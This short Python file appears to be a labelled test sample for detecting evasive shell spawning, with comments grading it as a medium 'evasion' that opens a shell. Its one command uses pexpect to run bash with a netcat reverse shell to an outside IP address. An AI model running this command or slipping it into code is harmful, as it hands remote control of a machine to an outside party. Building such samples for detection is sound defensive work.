# evasion: a third-party process library (pexpect.spawn) given bash and ["-c", reverse shell]
# grade: medium; does: shell
import pexpect

child = pexpect.spawn("bash", ["-c", "nc 203.0.113.82 9 -e /bin/sh"])
child.wait()
